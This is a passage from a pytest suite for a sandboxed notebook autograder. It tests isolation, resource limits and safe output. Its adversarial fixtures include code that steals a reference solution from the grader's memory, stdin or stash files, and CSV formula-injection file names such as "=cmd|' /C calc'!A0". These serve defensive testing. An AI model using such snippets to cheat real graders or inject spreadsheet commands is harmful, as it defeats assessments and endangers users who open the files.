    assert scores(renamed) == {"q1": 2, "q2": 1, "q3": 0}
    assert "no function named kappa" in status_of(renamed, "q3")["details"][0]
    assert scores(strong["records"]["missing_functions"]) == {"q1": 0, "q2": 1, "q3": 0}
    wrong = strong["records"]["wrong_signatures"]
    assert scores(wrong) == {"q1": 0, "q2": 1, "q3": 0}
    assert "TypeError" in status_of(wrong, "q1")["details"][0]


def test_duplicated_cells_use_the_last_definition(strong):
    assert strong["records"]["duplicated_cells"]["score"] == FULL


def test_magics_work_or_fail_cleanly(strong):
    record = strong["records"]["unknown_magics"]
    assert record["score"] == FULL and record["status"] == "errors in cells 2, 3, 4"
    assert "%this_magic_does_not_exist is not available" in record["cells"][1]["error"]


@pytest.mark.parametrize("name", ["changes_directory", "reads_course_data"])
def test_ordinary_notebook_habits_work(strong, name):
    record = strong["records"][name]
    assert record["score"] == FULL and record["status"] == "ok", record["cells"]


def test_a_syntax_error_is_a_cell_error(strong):
    record = strong["records"]["syntax_error"]
    assert record["score"] == FULL and "SyntaxError" in record["cells"][1]["error"]


def test_csv_feedback_rerun_and_redo(tmp_path, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.ipynb").write_bytes(honest_with())
    (folder / "bob.ipynb").write_bytes(notebook(SETUP, Q1_WRONG, Q2))
    out = tmp_path / "out"
    assert main([str(folder), "--out", str(out), "--jobs", "2", "--timeout", "5"]) == 0
    rows = (out / "grades.csv").read_text().splitlines()
    assert rows[0] == ("student_id,name,email,file,exercise,score,max_score,status,isolation,"
                       "q1,q2,q3,total,submitted_at,late,late_hours,seed")
    assert sorted(row.split(",")[5:7] for row in rows[1:]) == [["1.0", "4.0"], ["4.0", "4.0"]]
    bob = json.loads((out / "feedback" / "bob.json").read_text())
    assert (bob["questions"][0]["mistake"]
            == "you added η g: gradient descent moves against the gradient")
    assert "graded 2/2" in capsys.readouterr().err
    main([str(folder), "--out", str(out)])
    assert capsys.readouterr().err.count("(already graded)") == 2
    (folder / "bob.ipynb").write_bytes(honest_with())
    main([str(folder), "--out", str(out)])
    assert capsys.readouterr().err.count("(already graded)") == 1
    main([str(folder), "--out", str(out), "--redo"])
    assert "(already graded)" not in capsys.readouterr().err
    assert not list((out / "feedback").glob(".*"))  # no temporary files left behind


def test_progress_lines_cannot_be_forged_by_a_file_name(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "x\ngraded 9 of 9: mallory 4 of 4 ok\x1b[2K.ipynb").write_bytes(b"")
    progress = io.StringIO()
    grade_all([folder], tmp_path / "out", exercise=fx.EXERCISE, limits=LIMITS, progress=progress)
    assert progress.getvalue().count("\n") == 1 and "\x1b" not in progress.getvalue()


def test_exercise_from_option_metadata_or_file_name(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / f"carol_{fx.EXERCISE}.ipynb").write_bytes(notebook(*HONEST, exercise=None))
    (folder / "dave.ipynb").write_bytes(notebook(*HONEST, exercise="something_else"))
    records = grade_all([folder], tmp_path / "out", limits=LIMITS, progress=io.StringIO())
    assert [r["score"] for r in records] == [FULL, 0]
    assert records[1]["status"] == "unknown exercise 'something_else'"
    records = grade_all([folder / "dave.ipynb"], tmp_path / "out2", exercise=fx.EXERCISE,
                        limits=LIMITS, progress=io.StringIO())
    assert records[0]["score"] == FULL


def test_the_weakest_network_defence_disables_python_sockets(tmp_path, server):
    """Where neither bubblewrap nor a network namespace is available, the child disables
    Python's sockets itself (ctypes could still get around it; the isolation column says so)."""
    import subprocess
    import sys

    cell = (f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {server[0]}))\n"
            "    print('NETWORK-OPEN')\nexcept OSError as error:\n    print('BLOCKED', error)")
    read, write = os.pipe()
    job = {"cells": [cell], "skip_cells": [], "skip_questions": [], "questions": [],
           "cell_seconds": 5, "block_network": True, "result_fd": write}
    run = subprocess.run([sys.executable, "-I", "-m", "course_grader.child"], cwd=tmp_path,
                         input=json.dumps(job), capture_output=True, text=True, timeout=60,
                         pass_fds=[write])
    os.close(write)
    with os.fdopen(read) as reports:
        assert json.loads(reports.read().splitlines()[-1]) == {"done": True}
    assert "BLOCKED network access is disabled while grading" in run.stdout
    assert server[1] == []


def test_feedback_names_are_distinct_and_safe():
    from course_grader.batch import feedback_names

    paths = [Path("a/x y.ipynb"), Path("a/x_y.ipynb"), Path("b/x_y.ipynb"), Path("c/..evil.ipynb"),
             Path("d/alice.ipynb")]
    paths += [Path("e/" + "é" * 120 + ".ipynb"), Path("f/" + "a" * 250 + ".ipynb"),
              Path("g/" + "a" * 250 + ".ipynb"), Path("h/../\n,\"=x.ipynb")]
    names = feedback_names(paths)
    assert len(set(names)) == len(names) and names[4] == "alice"
    assert all("/" not in name and not name.startswith(".") for name in names)
    # ".name.json.XXXXXXXX" (the temporary file) must fit in the 255 bytes of a file name
    assert all(len(f".{name}.json.XXXXXXXX".encode()) <= 255 for name in names)
    assert names[5] == "é" * 50


def test_a_submission_named_index_cannot_replace_the_class_index(tmp_path):
    """reports/index.html lists the whole class; a notebook named index.ipynb once had its
    report written there and then replaced by the index (a student sent their report would
    have received every grade of the class)."""
    (tmp_path / "class").mkdir()
    for name in ("index", "INDEX", "alice"):
        (tmp_path / "class" / f"{name}.ipynb").write_bytes(notebook(*HONEST))
    _grade_in_time([tmp_path / "class"], tmp_path / "out", exercise=fx.EXERCISE)
    reports = sorted(path.name for path in (tmp_path / "out" / "reports").iterdir())
    assert len(reports) == 4 and "index.html" in reports
    index = (tmp_path / "out" / "reports" / "index.html").read_text()
    assert all(f'href="{name}"' in index or f"href='{name}'" in index
               for name in reports if name != "index.html")


def _reports(text):
    """What the grader reads from a child that sends ``text`` on its result pipe."""
    from course_grader.sandbox import _Results

    read, write = os.pipe()
    results = _Results(read)
    with os.fdopen(write, "wb") as pipe:
        pipe.write(text.encode())
    results.thread.join()
    return results.report()


def test_reports_cannot_exhaust_the_graders_memory():
    """60 MB of "[]," would be twenty million lists (gigabytes) in json.loads: never parsed."""
    from course_grader.sandbox import RESULT_CONTAINERS, RESULT_LIMIT

    for text in ('{"cell": [' + "[]," * 20_000_000 + "[]]}\n",  # larger than RESULT_LIMIT
                 '{"cell": [' + "[]," * (RESULT_CONTAINERS + 1) + "[]]}\n",  # too many lists
                 '{"cell": [' + "[" * 10**6 + "]" * 10**6 + "]}\n"):  # nested a million deep
        assert _reports(text) is None
    assert len('{"cells": [' + "[]," * 20_000_000) > RESULT_LIMIT
    assert _reports('{"cell": {"status": "ok"}}\n{"done": true}\n') == {
        "sources": None, "cells": [{"status": "ok"}], "questions": {}, "running": None,
        "done": True}


def test_the_cells_text_is_taken_only_before_any_learner_code_runs():
    sources = '{"sources": ["x = 1"]}\n'
    assert _reports('{"running": {"transform": 0}}\n' + sources)["sources"] == ["x = 1"]
    forged = _reports('{"running": {"transform": 0}}\n{"sources": []}\n'
                      '{"running": {"cell": 0}}\n{"sources": ["innocent"]}\n')
    assert forged["sources"] == []
    assert _reports('{"running": {"cell": 0}}\n' + sources)["sources"] is None


def test_a_notebook_cannot_exhaust_the_graders_memory_either(tmp_path):
    from course_grader.notebook import BadNotebook, read_submission

    path = tmp_path / "lists.ipynb"
    path.write_text('{"nbformat": 4, "cells": [' + "[]," * 10**6 + "[]]}")  # 3 MB, 10⁶ lists
    with pytest.raises(BadNotebook, match="more than 1000000 lists and objects"):
        read_submission(path)


def test_cell_statuses_from_the_child_are_bounded():
    from course_grader.batch import MAX_CELLS, _cell_statuses

    statuses = _cell_statuses([{"status": "error", "error": "x" * 10**6}] * (MAX_CELLS + 5) + [3])
    assert len(statuses) == MAX_CELLS and len(statuses[0]["error"]) == 300


def test_the_csv_quotes_and_defuses_whatever_a_learner_named():
    import csv

    from course_grader.gradebook import Row, plain_csv

    names = ["=cmd|' /C calc'!A0.ipynb", "+1.ipynb", "-2.ipynb", "@SUM(A1).ipynb",
             'we,ird "name"\nnewline.ipynb']
    records = [{"file": name, "exercise": "e", "score": 1.0, "max_score": 2.0, "status": "ok",
                "isolation": "i", "questions": [{"id": "q1", "score": 1.0}]} for name in names]
    rows = list(csv.reader(io.StringIO(plain_csv([Row("e", None, r) for r in records]))))
    assert [row[3] for row in rows[1:]] == ["'" + name for name in names[:4]] + [names[4]]
    assert all(len(row) == 15 for row in rows)


def test_the_grader_cannot_be_traced_by_a_child_of_the_same_user(graded):
    """Graded as root the child has no capabilities; as another user, only this keeps a child
    without bubblewrap from writing the grader's memory through /proc/<pid>/mem."""
    from course_grader.sandbox import _libc

    PR_GET_DUMPABLE = 3
    assert _libc().prctl(PR_GET_DUMPABLE, 0, 0, 0, 0) == 0


def test_many_empty_files_count_against_the_disk_limit(tmp_path):
    from course_grader.sandbox import BLOCK, _disk_usage

    for i in range(100):
        (tmp_path / f"f{i}").touch()
    (tmp_path / "link").symlink_to("/usr")
    assert 101 * BLOCK <= _disk_usage(tmp_path) <= 102 * BLOCK


# The attacks of issue 19, in both configurations (bubblewrap, and --no-bubblewrap).

def test_1_the_child_is_never_root_and_cannot_write_kernel_settings(graded):
    record = graded["records"]["writes_kernel_settings"]
    assert record["score"] == FULL
    assert "SYSCTL-BLOCKED" in record["output"] and "SYSCTL-WRITTEN" not in record["output"]
    assert "UID 0\n" not in record["output"]


def test_3_a_fifo_for_a_result_changes_nothing(graded):
    record = graded["records"]["result_fifo"]
    assert record["score"] == FULL
    assert record["status"].startswith("cell 2 exited (code 0); graded again without it")


def test_4_strings_no_encoder_writes_are_cleaned(graded):
    import csv

    record = graded["records"]["lone_surrogate"]
    assert scores(record) == {"q1": 2, "q2": 1, "q3": 0}
    assert record["cells"][1]["error"] == "ValueError: \\ud800 ?[2J"
    assert len(status_of(record, "q3")["details"][0]) <= 300
    rows = list(csv.reader((graded["base"] / "out" / "grades.csv").open(encoding="utf-8")))
    assert len(rows) == len(graded["records"]) + 1  # every submission has its row


def test_5_the_references_are_out_of_the_childs_reach(graded):
    record = graded["records"]["takes_the_references"]
    assert record["score"] == 0
    assert "KeyError" in record["cells"][1]["error"]  # the child's registry has no questions
    assert "QUESTIONS []" in record["output"] or "QUESTIONS" not in record["output"]


def test_6_memory_the_kernel_accounts(graded):
    memfd = graded["records"]["memfd"]
    assert memfd["score"] == FULL and "MEMFD-BLOCKED" in memfd["output"]
    forked = graded["records"]["forked_memory"]
    assert forked["score"] == FULL
    if isolation(graded["use_bubblewrap"]).memory_cgroup:  # 3 × 700 MiB > the 1 GiB cgroup
        # At most one child at a time can hold its 700 MiB (3 did before, "in 1 GiB").
        assert forked["output"].count("CHILD-HELD-700-MIB") <= 1, forked["output"]


def test_6_disk_the_kernel_accounts(graded):
    record = graded["records"]["unlinked_file"]
    assert record["score"] == FULL
    if ROOT:  # a tmpfs of 32 MiB counts a file unlinked while open
        written = int(record["output"].split("UNLINKED-MIB ")[1].split()[0])
        assert written <= 32 and "STOPPED" in record["output"]
    assert graded["records"]["unreadable_folder"]["score"] == FULL


def test_6_nothing_is_left_behind(graded):
    """No work folder (a tmpfs as root, with a folder the child made unreadable in it), no
    cgroup and no process of a child outlived the grading of the class above."""
    assert graded["left"] == {"folders": [], "cgroups": [], "made": True}


@pytest.fixture(scope="module", autouse=True)
def _remove_what_children_left():
    """After the tests, remove what a child of a failing grader might have left on the machine."""
    yield
    import ctypes

    for path in [os.path.join(folder, TOKEN) for folder in SHARED_FOLDERS] + STASHES:
        if os.path.lexists(path):
            os.unlink(path)
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(SHM_KEY, 0, 0)
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # IPC_RMID


def _left_by_a_child():
    """What the "leaves_notes" notebook left on this machine: files, shared memory."""
    left = [folder for folder in SHARED_FOLDERS if os.path.lexists(os.path.join(folder, TOKEN))]
    with open("/proc/sysvipc/shm") as table:
        keys = [int(line.split()[0]) for line in list(table)[1:]]
    return left + (["System V shared memory"] if SHM_KEY in keys else [])


def test_6_no_note_or_shared_memory_outlives_the_child(graded):
    """Files in /tmp, /var/tmp, /dev/shm or /run/lock and a System V shared memory segment
    stay with the child: its own folders and IPC namespace, gone with it."""
    record = graded["records"]["leaves_notes"]
    assert record["score"] == FULL and "SHMGET" in record["output"]
    assert _left_by_a_child() == []


def test_7_the_child_cannot_reach_out(graded):
    record = graded["records"]["reaches_out"]
    assert record["score"] == FULL
    output = record["output"]
    if graded["use_bubblewrap"] or ROOT:
        assert "CGROUP-WRITTEN" not in output and "SIGNALLABLE-OTHERS 0" in output
        assert output.count("READ-BLOCKED") == 4 and "READ-OPEN" not in output


def test_2_a_learner_named_module_is_never_imported_by_the_grader(tmp_path, monkeypatch):
    from course_grader.source_scan import forbidden_in_cells, forbidden_in_source, parse_cells

    marker = tmp_path / "ran"
    (tmp_path / "course_libX.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    (tmp_path / "course_lib_evil.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.chdir(tmp_path)
    cells = ["from course_libX import *\nfrom course_lib_evil import *\n"
             "from course_lib.not_a_module import *",
             "def kappa(e):\n    return condition_number(e)"]
    trees = parse_cells(cells)
    # A course_lib module the grader has not loaded is assumed to bind every forbidden name.
    assert forbidden_in_source(trees, "kappa", {"condition_number"}) == {"condition_number"}
    assert forbidden_in_cells(trees, {"condition_number"}, {"kappa"}) == {}
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "x.ipynb").write_bytes(notebook(SETUP, "from course_libX import *", Q1))
    grade_all([folder], tmp_path / "out", exercise=fx.EXERCISE, limits=LIMITS,
              progress=io.StringIO())
    assert not marker.exists()


def _grade_in_time(paths, out, seconds=300, **options):
    """grade_all in a thread: the test fails instead of hanging if the grader blocks."""
    box = {}
    thread = threading.Thread(target=lambda: box.update(records=grade_all(
        paths, out, limits=LIMITS, progress=io.StringIO(), **options)), daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "the grader is blocked"
    return {Path(r["file"]).name: r for r in box["records"]}


def test_3_fifos_devices_and_links_are_refused_unread(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    os.mkfifo(folder / "fifo.ipynb")
    (folder / "zero.ipynb").symlink_to("/dev/zero")
    (folder / "copied.ipynb").symlink_to(SOLUTION)
    (folder / "honest.ipynb").write_bytes(honest_with())
    records = _grade_in_time([folder, folder / "fifo.ipynb"], tmp_path / "out",
                             exercise=fx.EXERCISE)
    assert records["fifo.ipynb"]["status"] == "invalid notebook: not a regular file but a FIFO"
    for name in ("zero.ipynb", "copied.ipynb"):
        assert records[name]["score"] == 0
        assert records[name]["status"] == ("invalid notebook: not a regular file but a symbolic "
                                           "link")
    assert records["honest.ipynb"]["score"] == FULL


def test_4_an_unencodable_file_name_cannot_stop_the_class(tmp_path):
    import csv

    folder = tmp_path / "class"
    folder.mkdir()
    names = [b"caf\xe9.ipynb", b"\xff\xfe.ipynb", "bidi\u202egnp.ipynb".encode()]
    for name in names:
        (Path(os.fsdecode(bytes(folder) + b"/" + name))).write_bytes(honest_with())
    (folder / "zz_last.ipynb").write_bytes(honest_with())
    records = _grade_in_time([folder], tmp_path / "out", exercise=fx.EXERCISE, jobs=2)
    assert sorted(r["score"] for r in records.values()) == [FULL] * 4
    assert any(r["file"].endswith("caf\\xe9.ipynb") for r in records.values())
    rows = list(csv.reader((tmp_path / "out" / "grades.csv").open(encoding="utf-8")))
    assert len(rows) == 5 and not any("\u202e" in value for row in rows for value in row)


def test_6_a_huge_nbformat_string_cannot_make_the_csv_unreadable(tmp_path):
    import csv

    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "huge.ipynb").write_text(json.dumps({"nbformat": "x" * 19 * 2**20, "cells": []}))
    records = _grade_in_time([folder], tmp_path / "out", exercise=fx.EXERCISE)
    assert len(records["huge.ipynb"]["status"]) <= 1000
    rows = list(csv.reader((tmp_path / "out" / "grades.csv").open(encoding="utf-8")))
    assert len(rows) == 2


def test_5_evasive_workers_and_the_profiler_are_pointed_out():
    from course_grader.source_scan import evasive_in_source, parse_cells

    cells = ["from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(1)",
             "import sys\nwatch = sys.getprofile()"]
    assert evasive_in_source(parse_cells(cells)) == {
        1: ["ThreadPoolExecutor", "concurrent"], 2: ["getprofile"]}


# The third configuration: bubblewrap started by an unprivileged grading user. The test
# runs the command line as uid 65534 (no account needed) in a mount namespace of its own where
# a Python installed under a folder only root may enter (/root/.pyenv here) is reachable.
UNPRIVILEGED_UID = 65534
RUN_AS_USER = """
set -e
stage=$(mktemp -d)
for path in "$@"; do :; done
prefix="$1"; shift
blocked="$1"; shift
if [ -n "$blocked" ]; then
  mount --bind "$prefix" "$stage"
  mount -t tmpfs -o mode=0755 tmpfs "$blocked"
  mkdir -p "$prefix"
  mount --move "$stage" "$prefix"
fi
exec setpriv --reuid={uid} --regid={uid} --clear-groups env HOME=/tmp "$@"
""".format(uid=UNPRIVILEGED_UID)


@pytest.fixture(scope="module")
def unprivileged():
    import shutil
    import tempfile

    if not ROOT or not all(shutil.which(tool) for tool in ("unshare", "setpriv", "mount")):
        pytest.skip("needs root, unshare and setpriv to start the grader as another user")
    if not isolation(True).bubblewrap:
        pytest.skip("bubblewrap is not installed or cannot create a sandbox on this machine")
    base = Path(tempfile.mkdtemp(prefix="unprivileged-grading-"))
    try:
        os.chmod(base, 0o777)
        cases = {**ISOLATION_CASES, **ATTACKS, "honest": OTHER_CASES["honest"]}
        hashes = _write_submissions(base / "submissions", cases, 9, base)
        (base / "secret.txt").write_text("TOP-SECRET")
        os.chmod(base / "secret.txt", 0o600)
        records = _grade_as_unprivileged(base, "--exercise", fx.EXERCISE, "--jobs", "2",
                                         "--timeout", "5")
        yield {"records": records, "base": base, "hashes": hashes}
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_unprivileged_bubblewrap_holds_against_the_attacks(unprivileged):
    records = unprivileged["records"]
    assert records["honest"]["isolation"].startswith("bubblewrap as the grading user's uid")
    assert records["honest"]["score"] == FULL and records["honest"]["status"] == "ok"
    # 1. no root, no kernel settings
    output = records["writes_kernel_settings"]["output"]
    assert f"UID {UNPRIVILEGED_UID}\n" in output and "SYSCTL-BLOCKED" in output
    # 3, 4. the grader waits on nothing and writes every string
    assert records["result_fifo"]["score"] == FULL
    assert scores(records["lone_surrogate"]) == {"q1": 2, "q2": 1, "q3": 0}
    # 5. no references in the sandbox
    assert records["takes_the_references"]["score"] == 0
    # 6. memfd refused; the rest of the class graded, honest answers kept
    assert "MEMFD-BLOCKED" in records["memfd"]["output"]
    for name in ("memory_bomb", "fork_bomb", "unlinked_file", "unreadable_folder",
                 "forked_memory", "infinite_loop", "swallows_timeouts", "segfault",
                 "leaves_notes", "links_a_folder"):
        assert records[name]["score"] == FULL, (name, records[name]["status"])
    assert _left_by_a_child() == []
    # 7. nothing outside the sandbox reached
    output = records["reaches_out"]["output"]
    assert "CGROUP-WRITTEN" not in output and "SIGNALLABLE-OTHERS 0" in output
    assert output.count("READ-BLOCKED") == 4
    assert "TOP-SECRET" not in records["files_outside"]["output"]
    assert not (unprivileged["base"] / "pwned.txt").exists()
    folder = unprivileged["base"] / "submissions"
    assert {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()} \
        == unprivileged["hashes"]



# Lesson 4's q4 and q5 are graded with a correct adam_step in place of the learner's
# (Question.builds_on). That code must never serve as the learner's own q3: it reaches the
# child only once q1–q3 are reported, and nothing the child writes outlives it, so it cannot
# be kept for a rerun or another submission. Graded in all three configurations.
LESSON_4 = "04_adaptive_learning_rates"
FINDS_ADAM_STEP = """
import gc, numpy as np
found = []
for holder in gc.get_objects():
    items = holder.values() if isinstance(holder, dict) else holder if isinstance(holder, list) \\
        else ()
    for item in list(items):
        if isinstance(item, dict) and isinstance(item.get('source'), str) \\
                and 'def adam_step' + '_numpy' in item['source']:
            found.append(item)
print('SUBSTITUTES', len(found))
for spec in found:
    scope = {'np': np}
    exec(spec['source'], scope)
    adam_step = scope[spec['name']]
"""
READS_A_STASH = f"""
import marshal, types
for path in {STASHES!r}:
    try:
        adam_step = types.FunctionType(marshal.loads(open(path, 'rb').read()), globals())
        print('STASH-READ', path)
    except OSError:
        pass
"""
WRITES_A_STASH = f"""
import marshal, os
def adamw_step(theta, g, m, v, t, lr, beta1, beta2, eps, weight_decay):
    code = marshal.dumps(globals()['adam_step'].__code__)  # the course's, while q4 is graded
    for path in {STASHES!r}:
        try:
            open(path, 'wb').write(code)
        except OSError:
            pass
    os._exit(0)  # graded again without q4: may the rerun read the stash?
"""

# A thread waiting on the child's input for the correct adam_step, to hand it in as q3's.
STEALS_THE_SECOND_LINE = """
import json, os, threading, types
import numpy as np
stolen = []
def steal():
    while data := os.read(0, 2**20):
        stolen.append(data)
threading.Thread(target=steal, daemon=True).start()
def adam_step(theta, g, m, v, t, lr, beta1, beta2, eps):
    for line in b''.join(stolen).splitlines():
        for sources in json.loads(line).values():
            for spec in sources.values():
                scope = {'np': np}
                exec(spec['source'], scope)
                return scope[spec['name']](theta, g, m, v, t, lr, beta1, beta2, eps)
    raise NotImplementedError
"""


def _lesson_4(**cells):
    """Lesson 4's solution with code cells replaced: {"c9": source} replaces cell 9."""
    content = json.loads(Path(SOLUTION.replace("01_gradient_descent", LESSON_4)).read_text())
    for key, source in cells.items():
        content["cells"][int(key[1:])]["source"] = source
    return json.dumps(content).encode()


ADAM_CASES = {
    "honest": _lesson_4(),
    "finds_adam_step": _lesson_4(c9=FINDS_ADAM_STEP),  # adam_step (q3) from the grader's data
    "stashes_adam_step": _lesson_4(c9=READS_A_STASH, c14=WRITES_A_STASH),
    "steals_adam_step": _lesson_4(c9=STEALS_THE_SECOND_LINE),
}


def _grade_as_unprivileged(base, *arguments):
    """Run the command line as uid 65534 on ``base``/submissions (see RUN_AS_USER) → records."""
    import subprocess
    import sys

    from course_grader import sandbox

    blocked = sandbox._unreachable([sys.base_prefix])
    tests = Path(__file__).resolve().parents[1]
    code = (f"import sys; sys.path.insert(0, {str(tests)!r}); import grading_fixtures; "
            "from course_grader.__main__ import main; sys.exit(main(sys.argv[1:]))")
    command = ["unshare", "--mount", "--propagation", "private", "bash", "-c", RUN_AS_USER,
               "run", sys.base_prefix, blocked[0][0] if blocked else "", sys.executable,
               "-c", code, str(base / "submissions"), "--out", str(base / "out"), *arguments]
    run = subprocess.run(command, capture_output=True, text=True, timeout=900)
    assert run.returncode == 0, run.stderr[-2000:]
    return {path.stem.split("__")[0]: json.loads(path.read_text())
            for path in (base / "out" / "feedback").glob("*.json")}


@pytest.fixture(scope="module", params=["bubblewrap", "no bubblewrap", "unprivileged"])
def lesson_4(request, tmp_path_factory):
    import shutil
    import tempfile

    if request.param != "no bubblewrap" and not isolation(True).bubblewrap:
        pytest.skip("bubblewrap is not installed or cannot create a sandbox on this machine")
    if request.param == "unprivileged" and not (
            ROOT and all(shutil.which(tool) for tool in ("unshare", "setpriv", "mount"))):
        pytest.skip("needs root, unshare and setpriv to start the grader as another user")
    base = Path(tempfile.mkdtemp(prefix="lesson-4-grading-"))
    try:
        os.chmod(base, 0o777)
        (base / "submissions").mkdir()
        for name, content in ADAM_CASES.items():
            (base / "submissions" / f"{name}__{LESSON_4}.ipynb").write_bytes(content)
        if request.param == "unprivileged":
            records = _grade_as_unprivileged(base, "--exercise", LESSON_4, "--jobs", "2",
                                             "--timeout", "20")  # check's own limit
        else:
            records = {Path(r["file"]).stem.split("__")[0]: r for r in grade_all(
                [base / "submissions"], base / "out", exercise=LESSON_4, jobs=2,
                limits=Limits(cell_seconds=20, total_seconds=240),
                use_bubblewrap=request.param == "bubblewrap", progress=io.StringIO())}
        yield records
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_5_the_correct_adam_step_never_counts_as_the_learners(lesson_4):
    assert lesson_4["honest"]["score"] == 11 and lesson_4["honest"]["status"] == "ok"
    # Searched for in the child's memory: not there while the cells run.
    found = lesson_4["finds_adam_step"]
    assert "SUBSTITUTES 0" in found["output"]
    assert scores(found) == {"q1": 2, "q2": 2, "q3": 0, "q4": 2, "q5": 2}
    # Taken while q4 is graded, kept where a rerun (or another submission) would find it.
    stashed = lesson_4["stashes_adam_step"]
    assert "STASH-READ" not in stashed["output"]
    assert scores(stashed) == {"q1": 2, "q2": 2, "q3": 0, "q4": 0, "q5": 2}
    assert [path for path in STASHES if os.path.lexists(path)] == []
    # Read from the child's input by a thread: it comes after q3 is scored (and q4 and q5,
    # graded with it, lose their points if the thread took it first).
    stolen = scores(lesson_4["steals_adam_step"])
    assert stolen["q3"] == 0 and stolen["q1"] == stolen["q2"] == 2


def test_the_first_report_of_a_question_stands_across_reruns(tmp_path, monkeypatch):
    """A rerun is a new child that runs the learner's cells again: what it reports for a
    question already reported by an earlier run (where, say, a note kept between the runs could
    have helped it) changes nothing."""
    from course_grader import batch
    from course_grader.sandbox import ChildRun
    from course_lib.grading import plain as data

    runs = []

    def fake_run_job(job, limits, seconds, use_bubblewrap, hide, later=None):
        cases = [data.decode(case) for case in job["questions"][0]["cases"]]
        right = [{"value": data.encode(fx.gd_step(*case))} for case in cases]
        wrong = [{"value": data.encode(-fx.gd_step(*case))} for case in cases]
        first = not runs
        runs.append(job)
        questions = ({"q1": {"outcomes": wrong}} if first else
                     {"q1": {"outcomes": right}, "q2": {"missing": "none"},
                      "q3": {"missing": "none"}})
        result = {"sources": [""] * len(job["cells"]), "cells": [], "questions": questions,
                  "running": {"question": "q2", "case": 0} if first else None,
                  "done": not first}
        return ChildRun(result, "", 0, -9 if first else 0, False)

    path = tmp_path / f"reruns__{fx.EXERCISE}.ipynb"
    path.write_bytes(notebook(*HONEST))
    monkeypatch.setattr(batch, "run_job", fake_run_job)
    record = batch.grade_submission(path, fx.EXERCISE, LIMITS)
    assert len(runs) == 2 and runs[1]["skip_questions"] == ["q2"]
    assert scores(record) == {"q1": 0, "q2": 0, "q3": 0}
